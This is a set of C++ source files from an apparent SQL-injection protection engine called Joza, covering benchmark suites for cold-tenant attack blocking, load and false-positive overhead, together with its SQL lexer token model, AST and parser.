                 budgeted.seconds > 0 ? events / budgeted.seconds : 0, "qps");
  result.AddInfo("parity.unbudgeted_qps",
                 unbudgeted.seconds > 0 ? events / unbudgeted.seconds : 0,
                 "qps");

  // --- Phase 2: over-the-wire cold-attack sweep ---------------------------
  // Every tenant starts cold; its first-ever request is an exploit. The
  // promotion path must rebuild the vocabulary and still block — serving
  // fail-open during a cold load would show up as a 200 here.
  {
    const std::string dir = MakeColdDir("sweep");
    tenant::Fleet fleet(MakeFleetOptions(budget, dir));
    std::size_t swept_blocked = 0;
    std::size_t transport_failures = 0;
    if (PopulateFleet(fleet, seeds).ok()) {
      gateway::GatewayConfig gcfg;
      gcfg.workers = 8;
      gateway::GatewayServer server([] { return attack::MakeTestbed(); },
                                    &fleet, gcfg);
      auto port = server.Start();
      if (port.ok()) {
        const auto* plugin = attack::TestbedPlugins().front();
        attack::Exploit e = attack::OriginalExploit(*plugin);
        const http::Request exploit = http::Request::Get(
            plugin->route, {{plugin->param, e.payload}});
        gateway::KeepAliveClient client(port.value());
        for (std::size_t i = 0; i < kTenants; ++i) {
          auto resp = client.Send(WithTenant(exploit, TenantName(i)));
          if (!resp.ok()) {
            ++transport_failures;
          } else if (resp->status == 500) {
            ++swept_blocked;
          }
        }
        const gateway::GatewayStats gs = server.stats();
        result.AddInfo("sweep.tenant_routed",
                       static_cast<double>(gs.tenant_routed), "count");
        result.AddExact("sweep.tenant_unavailable",
                        static_cast<double>(gs.tenant_unavailable));
        result.RequireEq("no fail-closed 503 on a healthy cold store",
                         "sweep.tenant_unavailable", 0);
        server.Stop();
      } else {
        std::fprintf(stderr, "sweep gateway start failed\n");
        ++transport_failures;
      }
    } else {
      ++transport_failures;
    }
    const tenant::FleetStats fs = fleet.stats();
    RemoveColdDir(dir);
    result.AddExact("sweep.blocked", static_cast<double>(swept_blocked));
    result.RequireEq("every cold-tenant first-touch attack is blocked",
                     "sweep.blocked", static_cast<double>(kTenants));
    result.AddExact("sweep.transport_failures",
                    static_cast<double>(transport_failures));
    result.RequireEq("cold-attack sweep transport clean",
                     "sweep.transport_failures", 0);
    result.AddExact("sweep.all_tenants_promoted",
                    fs.cold_loads >= kTenants ? 1 : 0);
    result.RequireEq("the sweep promoted every tenant from cold",
                     "sweep.all_tenants_promoted", 1);
    std::printf("cold-attack sweep: %zu/%zu blocked, %llu cold loads, "
                "%llu demotions\n",
                swept_blocked, kTenants,
                static_cast<unsigned long long>(fs.cold_loads),
                static_cast<unsigned long long>(fs.demotions));
  }

  // --- Phase 3: Zipf load under residency churn, over the wire ------------
  const std::size_t kClients = 8;
  const std::size_t per_client = options.quick ? 60 : 200;
  // Pre-serialized benign requests per tenant so serialization cost stays
  // out of the measured path (both runs ship identical bytes).
  std::vector<std::vector<std::string>> raw_by_tenant(kTenants);
  {
    std::vector<attack::WorkloadRequest> crawl =
        attack::MakeCrawlWorkload(32, options.seed + 11);
    for (std::size_t t = 0; t < kTenants; ++t) {
      for (const attack::WorkloadRequest& wr : crawl) {
        raw_by_tenant[t].push_back(gateway::SerializeRequest(
            WithTenant(wr.request, TenantName(t)), /*keep_alive=*/true));
      }
    }
  }
  std::vector<std::vector<std::size_t>> zipf_seq(kClients);
  for (std::size_t c = 0; c < kClients; ++c) {
    std::mt19937_64 rng(options.seed + 100 + c);
    zipf_seq[c].resize(per_client);
    for (std::size_t& t : zipf_seq[c]) t = SampleZipf(cdf, rng);
  }

  auto wire_pass = [&](std::uint64_t budget_bytes, const char* tag,
                       tenant::FleetStats* fleet_out,
                       gateway::GatewayStats* gw_out) -> RunResult {
    const std::string dir =
        budget_bytes > 0 ? MakeColdDir(tag) : std::string();
    tenant::Fleet fleet(MakeFleetOptions(budget_bytes, dir));
    RunResult r;
    if (!PopulateFleet(fleet, seeds).ok()) {
      RemoveColdDir(dir);
      r.failures = kClients * per_client;
      return r;
    }
    gateway::GatewayConfig gcfg;
    gcfg.workers = 8;
    gateway::GatewayServer server([] { return attack::MakeTestbed(); },
                                  &fleet, gcfg);
    auto port = server.Start();
    if (!port.ok()) {
      std::fprintf(stderr, "%s gateway start failed\n", tag);
      RemoveColdDir(dir);
      r.failures = kClients * per_client;
      return r;
    }
    // Warmup leg: settle the Zipf head into residency (and engine caches)
    // so the measured leg reflects steady-state churn, not first touches.
    DriveClients(kClients, per_client / 4 + 1, [&](std::size_t c) {
      auto conn = std::make_shared<gateway::KeepAliveClient>(port.value());
      return [&, conn, c](std::size_t i) {
        const std::size_t t = zipf_seq[c][i % per_client];
        auto resp = conn->RoundTrip(
            raw_by_tenant[t][(c * per_client + i) % raw_by_tenant[t].size()]);
        return resp.ok();
      };
    });
    r = DriveClients(kClients, per_client, [&](std::size_t c) {
      auto conn = std::make_shared<gateway::KeepAliveClient>(port.value());
      return [&, conn, c](std::size_t i) {
        const std::size_t t = zipf_seq[c][i];
        auto resp = conn->RoundTrip(
            raw_by_tenant[t][(c * per_client + i) % raw_by_tenant[t].size()]);
        return resp.ok();
      };
    });
    if (gw_out != nullptr) *gw_out = server.stats();
    server.Stop();
    if (fleet_out != nullptr) *fleet_out = fleet.stats();
    RemoveColdDir(dir);
    return r;
  };

  tenant::FleetStats churn_fleet;
  gateway::GatewayStats churn_gw;
  const RunResult unbudgeted_wire =
      wire_pass(0, "wire_unbudgeted", nullptr, nullptr);
  const RunResult budgeted_wire =
      wire_pass(budget, "wire_budgeted", &churn_fleet, &churn_gw);

  Table wire({"Fleet", "QPS", "p50 ms", "p99 ms", "Fail"});
  wire.AddRow({"unbudgeted", Num(unbudgeted_wire.qps(), 0),
               Num(unbudgeted_wire.p50_ms, 3), Num(unbudgeted_wire.p99_ms, 3),
               std::to_string(unbudgeted_wire.failures)});
  wire.AddRow({"budgeted", Num(budgeted_wire.qps(), 0),
               Num(budgeted_wire.p50_ms, 3), Num(budgeted_wire.p99_ms, 3),
               std::to_string(budgeted_wire.failures)});
  wire.Print("Zipf load over the wire (8 keep-alive clients)");

  result.AddInfo("wire.unbudgeted.qps", unbudgeted_wire.qps(), "qps");
  result.AddInfo("wire.unbudgeted.p99_ms", unbudgeted_wire.p99_ms, "ms");
  result.AddInfo("wire.budgeted.qps", budgeted_wire.qps(), "qps");
  result.AddInfo("wire.budgeted.p99_ms", budgeted_wire.p99_ms, "ms");
  result.AddInfo("wire.budgeted.cold_loads",
                 static_cast<double>(churn_fleet.cold_loads), "count");
  result.AddInfo("wire.budgeted.demotions",
                 static_cast<double>(churn_fleet.demotions), "count");

  result.AddExact("wire.transport_failures",
                  static_cast<double>(unbudgeted_wire.failures +
                                      budgeted_wire.failures));
  result.RequireEq("no transport failures under Zipf load",
                   "wire.transport_failures", 0);
  result.AddExact("wire.tenant_404s", static_cast<double>(churn_gw.tenant_404s));
  result.RequireEq("no routing 404s: every Zipf tenant resolves",
                   "wire.tenant_404s", 0);
  result.AddExact("wire.tenant_unavailable",
                  static_cast<double>(churn_gw.tenant_unavailable));
  result.RequireEq("no fail-closed 503 under churn",
                   "wire.tenant_unavailable", 0);
  result.AddExact("wire.budget_exceeded",
                  churn_fleet.peak_resident_bytes > budget ? 1 : 0);
  result.RequireEq("wire churn never exceeds the budget",
                   "wire.budget_exceeded", 0);
  // Bounded tail: promotions stall the unlucky request, so the budgeted
  // p99 rides the automaton-rebuild cost; the multiple is generous because
  // rebuild time is machine-dependent, but a residency-manager livelock or
  // promotion stampede still blows straight through it.
  result.AddCompared("wire.p99_ratio",
                     unbudgeted_wire.p99_ms > 0
                         ? budgeted_wire.p99_ms / unbudgeted_wire.p99_ms
                         : 0,
                     "x", Direction::kLowerBetter, /*tolerance=*/3.0,
                     /*abs_slack=*/2.0);
  result.RequireLe("budgeted p99 bounded under residency churn",
                   "wire.budgeted.p99_ms",
                   unbudgeted_wire.p99_ms * 5.0 + 20.0);

  return result;
}

}  // namespace joza::benchkit
