// benign_wp: protection overhead on WordPress.com-shaped benign traffic.
//
// For each read/write mix (Table VI's 50/50 and 10/90 plus the <1%-write
// fraction derived from the WordPress.com activity reports), serves fresh
// seeded workloads interleaved through a plain and a Joza-protected
// testbed and records the overhead fraction, per-request latency
// percentiles of the protected app, and the engine's per-stage counters.
//
// Gates: the engine must flag zero attacks on benign traffic (false
// positives) and every request must succeed. Counters are deterministic
// per seed and exact-compared against the baseline; wall-clock overhead is
// machine-dependent trajectory info.
#include <string>
#include <vector>

#include "attack/catalog.h"
#include "attack/workload.h"
#include "benchkit/metrics.h"
#include "benchkit/serve.h"
#include "benchkit/suites.h"
#include "core/joza.h"
#include "util/stopwatch.h"

namespace joza::benchkit {

SuiteResult RunBenignWpSuite(const SuiteOptions& options) {
  SuiteResult result("benign_wp", options);

  struct Mix {
    double write_fraction;
    const char* label;
    const char* key;
  };
  const Mix mixes[] = {
      {0.50, "50% writes / 50% reads", "w50"},
      {0.10, "10% writes / 90% reads", "w10"},
      {attack::WpComWriteFraction(), "wp.com write fraction", "wpcom"},
  };

  Table table({"Workload", "Plain (s)", "Protected (s)", "Overhead",
               "p50 ms", "p99 ms", "Attacks"});
  const std::size_t count = options.quick ? 150 : 600;
  const int reps = options.quick ? 3 : 6;

  std::size_t total_attacks = 0;
  for (const Mix& mix : mixes) {
    const auto make = [&](std::uint64_t seed) {
      return attack::MakeMixedWorkload(count, mix.write_fraction, seed);
    };

    auto plain_app = attack::MakeTestbed();
    auto prot_app = attack::MakeTestbed();
    core::Joza joza = core::Joza::Install(*prot_app);
    prot_app->SetQueryGate(joza.MakeGate());
    ServeOnce(*prot_app, make(options.seed));  // cache warm-up (unmeasured)

    const PairTiming timing = MeasurePair(*plain_app, *prot_app, make, reps,
                                          options.seed + 500);

    // One extra pass with per-request timing for the latency percentiles.
    LatencyRecorder recorder;
    const auto latency_workload =
        make(options.seed + 500 + static_cast<std::uint64_t>(reps));
    for (const attack::WorkloadRequest& wr : latency_workload) {
      Stopwatch per;
      prot_app->Handle(wr.request);
      recorder.Record(per.ElapsedSeconds() * 1e3);
    }
    prot_app->SetQueryGate(nullptr);

    const core::JozaStats stats = joza.stats();
    total_attacks += stats.attacks_detected;
    const LatencySummary lat = recorder.Summary();
    const std::string prefix = std::string("mix.") + mix.key;
    result.AddInfo(prefix + ".overhead_frac", timing.overhead(), "frac");
    result.AddInfo(prefix + ".plain_s", timing.plain, "s");
    result.AddInfo(prefix + ".protected_s", timing.protected_time, "s");
    result.AddLatency(prefix + ".latency", lat);
    result.AddExact(prefix + ".attacks_detected",
                    static_cast<double>(stats.attacks_detected));
    result.AddExact(prefix + ".queries_checked",
                    static_cast<double>(stats.queries_checked));
    result.AddExact(prefix + ".query_cache_hits",
                    static_cast<double>(stats.query_cache_hits));
    result.AddExact(prefix + ".structure_cache_hits",
                    static_cast<double>(stats.structure_cache_hits));
    result.AddExact(prefix + ".pti_full_runs",
                    static_cast<double>(stats.pti_full_runs));

    table.AddRow({mix.label, Num(timing.plain), Num(timing.protected_time),
                  Pct(timing.overhead()), Num(lat.p50, 3), Num(lat.p99, 3),
                  std::to_string(stats.attacks_detected)});
  }
  table.Print("Benign WP traffic: Joza overhead per read/write mix");

  result.AddExact("benign.total_attacks_flagged",
                  static_cast<double>(total_attacks));
  result.RequireEq("zero false positives on benign traffic",
                   "benign.total_attacks_flagged", 0);
  return result;
}

}  // namespace joza::benchkit
