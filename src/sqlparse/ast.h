// SQL abstract syntax tree.
//
// The AST serves three consumers: the in-memory database engine executes it,
// the structure cache hashes it with data nodes blanked (Section VI-A), and
// the PTI daemon reports the critical-token skeleton derived from it.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "util/span.h"

namespace joza::sql {

// ---------------------------------------------------------------------------
// Expressions
// ---------------------------------------------------------------------------

enum class BinaryOp {
  kOr, kAnd, kXor,
  kEq, kNe, kLt, kLe, kGt, kGe,
  kLike, kNotLike, kRegexp,
  kAdd, kSub, kMul, kDiv, kMod,
  kConcatPipes,  // ||  (string concat in some dialects, logical OR in MySQL)
};

enum class UnaryOp { kNot, kNeg, kIsNull, kIsNotNull };

const char* BinaryOpName(BinaryOp op);
const char* UnaryOpName(UnaryOp op);

struct Expr;
using ExprPtr = std::unique_ptr<Expr>;

struct SelectStmt;  // forward, for subqueries

enum class ExprKind {
  kNullLiteral,
  kIntLiteral,
  kDoubleLiteral,
  kStringLiteral,
  kBoolLiteral,
  kColumnRef,    // [table.]column or *
  kBinary,
  kUnary,
  kFunctionCall,
  kInList,       // expr [NOT] IN (e1, e2, ...)
  kBetween,      // expr [NOT] BETWEEN lo AND hi
  kSubquery,     // (SELECT ...)
  kPlaceholder,  // ? or :name
};

struct Expr {
  ExprKind kind;
  ByteSpan span;  // byte extent of this expression in the query text

  // Literals.
  std::int64_t int_value = 0;
  double double_value = 0.0;
  std::string string_value;  // unescaped contents for kStringLiteral
  bool bool_value = false;

  // kColumnRef: qualifier may be empty; column of "*" means star.
  std::string qualifier;
  std::string column;

  // kBinary / kUnary.
  BinaryOp binary_op = BinaryOp::kEq;
  UnaryOp unary_op = UnaryOp::kNot;
  ExprPtr lhs, rhs;   // kUnary and kBetween use lhs (+ rhs/extra)
  ExprPtr extra;      // BETWEEN hi bound

  // kFunctionCall.
  std::string function_name;  // uppercased
  std::vector<ExprPtr> args;

  // kInList.
  std::vector<ExprPtr> in_list;
  bool negated = false;  // NOT IN / NOT BETWEEN

  // kSubquery.
  std::unique_ptr<SelectStmt> subquery;

  // kPlaceholder.
  std::string placeholder_name;  // "?" or ":name"
  int placeholder_ordinal = -1;  // set by BindPlaceholderOrdinals
};

ExprPtr MakeIntLiteral(std::int64_t v);
ExprPtr MakeStringLiteral(std::string v);

// ---------------------------------------------------------------------------
// Statements
// ---------------------------------------------------------------------------

struct TableRef {
  std::string table;
  std::string alias;  // empty if none
};

struct JoinClause {
  enum class Kind { kInner, kLeft, kCross } kind = Kind::kInner;
  TableRef table;
  ExprPtr on;  // null for CROSS or comma-join
};

struct SelectItem {
  ExprPtr expr;
  std::string alias;  // empty if none
};

struct OrderItem {
  ExprPtr expr;
  bool descending = false;
};

struct SelectCore {
  bool distinct = false;
  std::vector<SelectItem> items;
  std::optional<TableRef> from;
  std::vector<JoinClause> joins;
  ExprPtr where;                    // may be null
  std::vector<ExprPtr> group_by;
  ExprPtr having;                   // may be null
};

struct SelectStmt {
  // UNION chain: cores[0] UNION [ALL] cores[1] ...
  std::vector<SelectCore> cores;
  std::vector<bool> union_all;  // size == cores.size()-1
  std::vector<OrderItem> order_by;
  std::optional<std::int64_t> limit;
  std::optional<std::int64_t> offset;
};

struct InsertStmt {
  std::string table;
  std::vector<std::string> columns;  // may be empty (all columns)
  std::vector<std::vector<ExprPtr>> rows;
};

struct UpdateStmt {
  std::string table;
  std::vector<std::pair<std::string, ExprPtr>> assignments;
  ExprPtr where;  // may be null
  std::optional<std::int64_t> limit;
};

struct DeleteStmt {
  std::string table;
  ExprPtr where;  // may be null
  std::optional<std::int64_t> limit;
};

struct ColumnDef {
  std::string name;
  enum class Type { kInt, kDouble, kText } type = Type::kText;
};

struct CreateTableStmt {
  std::string table;
  bool if_not_exists = false;
  std::vector<ColumnDef> columns;
};

struct DropTableStmt {
  std::string table;
  bool if_exists = false;
};

enum class StatementKind {
  kSelect, kInsert, kUpdate, kDelete, kCreateTable, kDropTable,
  kShowTables,  // SHOW TABLES — no further payload
};

struct Statement {
  StatementKind kind;
  std::unique_ptr<SelectStmt> select;
  std::unique_ptr<InsertStmt> insert;
  std::unique_ptr<UpdateStmt> update;
  std::unique_ptr<DeleteStmt> del;
  std::unique_ptr<CreateTableStmt> create;
  std::unique_ptr<DropTableStmt> drop;
};

// Assigns 0-based ordinals to every placeholder in the statement, in query
// byte order, and returns how many there are. Prepared-statement execution
// uses the ordinal to bind positional parameters.
int BindPlaceholderOrdinals(Statement& stmt);

}  // namespace joza::sql
