// AST-to-SQL rendering.
//
// Used by diagnostics (showing the parsed shape of an intercepted query)
// and by the parser round-trip property tests: Parse(Print(ast)) must be
// structurally identical to ast.
#pragma once

#include <string>

#include "sqlparse/ast.h"

namespace joza::sql {

std::string Print(const Statement& stmt);
std::string Print(const SelectStmt& stmt);
std::string Print(const Expr& expr);

}  // namespace joza::sql
