// SQL token model. Tokens carry byte-accurate spans into the original query
// string because taint markings (both NTI and PTI) are expressed as byte
// ranges and must be compared against token extents.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "util/span.h"

namespace joza::sql {

enum class TokenKind {
  kKeyword,           // reserved word: SELECT, UNION, OR, ...
  kFunction,          // builtin function name followed by '('
  kIdentifier,        // table/column name (bare or `backtick` quoted)
  kNumber,            // integer or decimal literal
  kString,            // quoted string literal, span includes quotes
  kOperator,          // = < > <= >= <> != || && + - * / %
  kPunct,             // , ( ) . ;
  kComment,           // -- line, # line, or /* block */ (span includes markers)
  kPlaceholder,       // ? or :name (prepared-statement placeholder)
  kEndOfInput,
  kError,             // unterminated string/comment or stray byte
};

struct Token {
  TokenKind kind = TokenKind::kError;
  ByteSpan span;            // byte range in the query, half-open
  std::string_view text;    // view into the query for [span.begin, span.end)

  bool Is(TokenKind k) const { return kind == k; }

  // A critical token is one whose injection constitutes an attack per the
  // paper's threat model: SQL keywords, built-in function names, operators,
  // statement delimiters, and comments (each comment is one critical token).
  // Identifiers, numbers, string-literal contents, commas and parentheses
  // are data/plumbing and deliberately not critical — the threat model
  // permits user-supplied field and table names (Section II).
  bool IsCritical() const {
    switch (kind) {
      case TokenKind::kKeyword:
      case TokenKind::kFunction:
      case TokenKind::kOperator:
      case TokenKind::kComment:
        return true;
      case TokenKind::kPunct:
        return text == ";";
      default:
        return false;
    }
  }
};

// Returns only the critical tokens from a token stream.
std::vector<Token> CriticalTokens(const std::vector<Token>& tokens);

const char* TokenKindName(TokenKind k);

}  // namespace joza::sql
