// Shared critical-unit computation for the taint analyzers.
//
// Both inference components reason about the same objects: the critical
// tokens of the lexed query (Section II's threat model) and, for PTI, the
// string-literal delimiter quotes. Historically each analyzer rebuilt its
// own list with subtly different strict_tokens handling; this module is the
// single implementation both layers share, so the policy can never drift.
#pragma once

#include <vector>

#include "sqlparse/token.h"
#include "util/span.h"

namespace joza::sql {

// The policy predicate: critical per the paper's pragmatic threat model,
// plus identifiers under the strict Ray-Ligatti-style policy (Section II).
inline bool IsCriticalToken(const Token& t, bool strict_tokens) {
  return t.IsCritical() ||
         (strict_tokens && t.kind == TokenKind::kIdentifier);
}

// One thing a PTI fragment occurrence must cover: a whole critical token,
// or a single string-literal delimiter quote byte (the rule that stops
// attackers from assembling critical tokens — or breakout quotes — out of
// fragment shards).
struct CriticalUnit {
  ByteSpan span;
  Token token;  // the token this unit belongs to (for reporting)
};

// Builds PTI's unit list: every critical token (per `strict_tokens`) as a
// whole-token unit, plus the opening and closing delimiter quotes of each
// string literal as single-byte units.
std::vector<CriticalUnit> BuildCriticalUnits(const std::vector<Token>& tokens,
                                             bool strict_tokens);

// NTI's view: just the critical tokens under the given policy. The
// zero-argument-policy CriticalTokens() in token.h is the pragmatic subset.
std::vector<Token> CriticalTokens(const std::vector<Token>& tokens,
                                  bool strict_tokens);

}  // namespace joza::sql
