#include "sqlparse/parser.h"

#include <charconv>

#include "sqlparse/lexer.h"
#include "util/strings.h"

namespace joza::sql {

namespace {

// Strips quotes and resolves escapes in a lexed string literal token.
std::string UnescapeStringToken(std::string_view raw) {
  if (raw.size() < 2) return std::string(raw);
  const char quote = raw.front();
  std::string out;
  out.reserve(raw.size() - 2);
  for (std::size_t i = 1; i + 1 < raw.size(); ++i) {
    char c = raw[i];
    if (c == '\\' && i + 2 < raw.size()) {
      char n = raw[i + 1];
      switch (n) {
        case 'n': out.push_back('\n'); break;
        case 't': out.push_back('\t'); break;
        case 'r': out.push_back('\r'); break;
        case '0': out.push_back('\0'); break;
        default: out.push_back(n); break;
      }
      ++i;
    } else if (c == quote && i + 2 < raw.size() && raw[i + 1] == quote) {
      out.push_back(quote);
      ++i;
    } else {
      out.push_back(c);
    }
  }
  return out;
}

std::string UnquoteIdentifier(std::string_view raw) {
  if (raw.size() >= 2 && raw.front() == '`' && raw.back() == '`') {
    return std::string(raw.substr(1, raw.size() - 2));
  }
  return std::string(raw);
}

class Parser {
 public:
  explicit Parser(std::string_view src) : src_(src), tokens_(Lex(src)) {}
  Parser(std::string_view src, std::vector<Token> tokens)
      : src_(src), tokens_(std::move(tokens)) {}

  StatusOr<Statement> ParseStatement() {
    if (AtEnd()) return Status::ParseError("empty statement");
    Statement stmt;
    const Token& t = Peek();
    if (IsKeywordToken(t, "SELECT")) {
      auto sel = ParseSelect();
      if (!sel.ok()) return sel.status();
      stmt.kind = StatementKind::kSelect;
      stmt.select = std::make_unique<SelectStmt>(std::move(sel.value()));
    } else if (IsKeywordToken(t, "INSERT") || IsKeywordToken(t, "REPLACE")) {
      auto ins = ParseInsert();
      if (!ins.ok()) return ins.status();
      stmt.kind = StatementKind::kInsert;
      stmt.insert = std::make_unique<InsertStmt>(std::move(ins.value()));
    } else if (IsKeywordToken(t, "UPDATE")) {
      auto upd = ParseUpdate();
      if (!upd.ok()) return upd.status();
      stmt.kind = StatementKind::kUpdate;
      stmt.update = std::make_unique<UpdateStmt>(std::move(upd.value()));
    } else if (IsKeywordToken(t, "DELETE")) {
      auto del = ParseDelete();
      if (!del.ok()) return del.status();
      stmt.kind = StatementKind::kDelete;
      stmt.del = std::make_unique<DeleteStmt>(std::move(del.value()));
    } else if (IsKeywordToken(t, "CREATE")) {
      auto cre = ParseCreateTable();
      if (!cre.ok()) return cre.status();
      stmt.kind = StatementKind::kCreateTable;
      stmt.create = std::make_unique<CreateTableStmt>(std::move(cre.value()));
    } else if (IsKeywordToken(t, "DROP")) {
      auto drp = ParseDropTable();
      if (!drp.ok()) return drp.status();
      stmt.kind = StatementKind::kDropTable;
      stmt.drop = std::make_unique<DropTableStmt>(std::move(drp.value()));
    } else if (IsKeywordToken(t, "SHOW")) {
      MatchKeyword("SHOW");
      if (auto st = Expect(MatchWord("TABLES"), "TABLES after SHOW");
          !st.ok()) {
        return st;
      }
      stmt.kind = StatementKind::kShowTables;
    } else {
      return Status::ParseError("unexpected token at statement start: " +
                                std::string(t.text));
    }
    SkipComments();
    if (!AtEnd() && Peek().text == ";") Advance();
    SkipComments();
    if (!AtEnd()) {
      return Status::ParseError("trailing tokens after statement: " +
                                std::string(Peek().text));
    }
    return stmt;
  }

  StatusOr<ExprPtr> ParseExpressionOnly() {
    auto e = ParseExpr();
    if (!e.ok()) return e.status();
    SkipComments();
    if (!AtEnd()) {
      return Status::ParseError("trailing tokens after expression");
    }
    return std::move(e.value());
  }

 private:
  // --- token helpers -------------------------------------------------------

  bool AtEnd() const { return pos_ >= tokens_.size(); }

  const Token& Peek(std::size_t ahead = 0) const {
    static const Token kEof{TokenKind::kEndOfInput, {}, {}};
    std::size_t i = pos_ + ahead;
    return i < tokens_.size() ? tokens_[i] : kEof;
  }

  const Token& Advance() {
    static const Token kEof{TokenKind::kEndOfInput, {}, {}};
    return pos_ < tokens_.size() ? tokens_[pos_++] : kEof;
  }

  // Comments may appear anywhere; the parser skips them (they were already
  // recorded as critical tokens by the lexer for the taint analyses).
  void SkipComments() {
    while (!AtEnd() && Peek().kind == TokenKind::kComment) ++pos_;
  }

  static bool IsKeywordToken(const Token& t, std::string_view kw) {
    return t.kind == TokenKind::kKeyword && EqualsIgnoreCase(t.text, kw);
  }

  bool MatchKeyword(std::string_view kw) {
    SkipComments();
    if (!AtEnd() && IsKeywordToken(Peek(), kw)) {
      Advance();
      return true;
    }
    return false;
  }

  // Matches a word regardless of how the lexer classified it (keyword,
  // identifier or function name). Needed for words like IF that are
  // functions in expression position but clause markers in DDL.
  bool MatchWord(std::string_view word) {
    SkipComments();
    if (AtEnd()) return false;
    const Token& t = Peek();
    if ((t.kind == TokenKind::kKeyword || t.kind == TokenKind::kIdentifier ||
         t.kind == TokenKind::kFunction) &&
        EqualsIgnoreCase(t.text, word)) {
      Advance();
      return true;
    }
    return false;
  }

  bool MatchPunct(std::string_view p) {
    SkipComments();
    if (!AtEnd() && Peek().kind == TokenKind::kPunct && Peek().text == p) {
      Advance();
      return true;
    }
    return false;
  }

  bool MatchOperator(std::string_view op) {
    SkipComments();
    if (!AtEnd() && Peek().kind == TokenKind::kOperator && Peek().text == op) {
      Advance();
      return true;
    }
    return false;
  }

  Status Expect(bool matched, std::string_view what) {
    if (matched) return Status::Ok();
    std::string got = AtEnd() ? "<eof>" : std::string(Peek().text);
    return Status::ParseError("expected " + std::string(what) + ", got " +
                              got);
  }

  StatusOr<std::string> ExpectIdentifier() {
    SkipComments();
    if (AtEnd() || Peek().kind != TokenKind::kIdentifier) {
      // Allow non-reserved keywords used as identifiers in common spots.
      if (!AtEnd() && Peek().kind == TokenKind::kKeyword &&
          (IsKeywordToken(Peek(), "KEY") || IsKeywordToken(Peek(), "SET"))) {
        return UnquoteIdentifier(Advance().text);
      }
      return Status::ParseError("expected identifier");
    }
    return UnquoteIdentifier(Advance().text);
  }

  // --- expressions ---------------------------------------------------------

  StatusOr<ExprPtr> ParseExpr() { return ParseOr(); }

  StatusOr<ExprPtr> ParseOr() {
    auto lhs = ParseAnd();
    if (!lhs.ok()) return lhs;
    for (;;) {
      SkipComments();
      BinaryOp op;
      if (MatchKeyword("OR") || MatchOperator("||")) {
        op = BinaryOp::kOr;
      } else if (MatchKeyword("XOR")) {
        op = BinaryOp::kXor;
      } else {
        break;
      }
      auto rhs = ParseAnd();
      if (!rhs.ok()) return rhs;
      lhs = MakeBinary(op, std::move(lhs.value()), std::move(rhs.value()));
    }
    return lhs;
  }

  StatusOr<ExprPtr> ParseAnd() {
    auto lhs = ParseNot();
    if (!lhs.ok()) return lhs;
    while (true) {
      SkipComments();
      if (MatchKeyword("AND") || MatchOperator("&&")) {
        auto rhs = ParseNot();
        if (!rhs.ok()) return rhs;
        lhs = MakeBinary(BinaryOp::kAnd, std::move(lhs.value()),
                         std::move(rhs.value()));
      } else {
        break;
      }
    }
    return lhs;
  }

  StatusOr<ExprPtr> ParseNot() {
    SkipComments();
    if (MatchKeyword("NOT") || MatchOperator("!")) {
      auto operand = ParseNot();
      if (!operand.ok()) return operand;
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kUnary;
      e->unary_op = UnaryOp::kNot;
      e->lhs = std::move(operand.value());
      return StatusOr<ExprPtr>(std::move(e));
    }
    return ParseComparison();
  }

  StatusOr<ExprPtr> ParseComparison() {
    auto lhs = ParseAdditive();
    if (!lhs.ok()) return lhs;
    SkipComments();

    // IS [NOT] NULL
    if (MatchKeyword("IS")) {
      bool negated = MatchKeyword("NOT");
      if (!MatchKeyword("NULL")) {
        return StatusOr<ExprPtr>(Status::ParseError("expected NULL after IS"));
      }
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kUnary;
      e->unary_op = negated ? UnaryOp::kIsNotNull : UnaryOp::kIsNull;
      e->lhs = std::move(lhs.value());
      return StatusOr<ExprPtr>(std::move(e));
    }

    bool negated = MatchKeyword("NOT");

    // [NOT] IN (...)
    if (MatchKeyword("IN")) {
      if (auto st = Expect(MatchPunct("("), "( after IN"); !st.ok()) {
        return StatusOr<ExprPtr>(st);
      }
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kInList;
      e->negated = negated;
      e->lhs = std::move(lhs.value());
      SkipComments();
      if (IsKeywordToken(Peek(), "SELECT")) {
        auto sub = ParseSelect();
        if (!sub.ok()) return StatusOr<ExprPtr>(sub.status());
        auto subexpr = std::make_unique<Expr>();
        subexpr->kind = ExprKind::kSubquery;
        subexpr->subquery =
            std::make_unique<SelectStmt>(std::move(sub.value()));
        e->in_list.push_back(std::move(subexpr));
      } else {
        do {
          auto item = ParseExpr();
          if (!item.ok()) return item;
          e->in_list.push_back(std::move(item.value()));
        } while (MatchPunct(","));
      }
      if (auto st = Expect(MatchPunct(")"), ") after IN list"); !st.ok()) {
        return StatusOr<ExprPtr>(st);
      }
      return StatusOr<ExprPtr>(std::move(e));
    }

    // [NOT] BETWEEN lo AND hi
    if (MatchKeyword("BETWEEN")) {
      auto lo = ParseAdditive();
      if (!lo.ok()) return lo;
      if (auto st = Expect(MatchKeyword("AND"), "AND in BETWEEN"); !st.ok()) {
        return StatusOr<ExprPtr>(st);
      }
      auto hi = ParseAdditive();
      if (!hi.ok()) return hi;
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kBetween;
      e->negated = negated;
      e->lhs = std::move(lhs.value());
      e->rhs = std::move(lo.value());
      e->extra = std::move(hi.value());
      return StatusOr<ExprPtr>(std::move(e));
    }

    // [NOT] LIKE / REGEXP
    if (MatchKeyword("LIKE")) {
      auto rhs = ParseAdditive();
      if (!rhs.ok()) return rhs;
      return StatusOr<ExprPtr>(
          MakeBinary(negated ? BinaryOp::kNotLike : BinaryOp::kLike,
                     std::move(lhs.value()), std::move(rhs.value())));
    }
    if (MatchKeyword("REGEXP")) {
      auto rhs = ParseAdditive();
      if (!rhs.ok()) return rhs;
      return StatusOr<ExprPtr>(MakeBinary(
          BinaryOp::kRegexp, std::move(lhs.value()), std::move(rhs.value())));
    }
    if (negated) {
      return StatusOr<ExprPtr>(
          Status::ParseError("dangling NOT in comparison"));
    }

    // Plain comparison operators.
    struct OpMap {
      std::string_view text;
      BinaryOp op;
    };
    static constexpr OpMap kOps[] = {
        {"<=", BinaryOp::kLe}, {">=", BinaryOp::kGe}, {"<>", BinaryOp::kNe},
        {"!=", BinaryOp::kNe}, {"=", BinaryOp::kEq},  {"<", BinaryOp::kLt},
        {">", BinaryOp::kGt},
    };
    for (const auto& m : kOps) {
      if (MatchOperator(m.text)) {
        auto rhs = ParseAdditive();
        if (!rhs.ok()) return rhs;
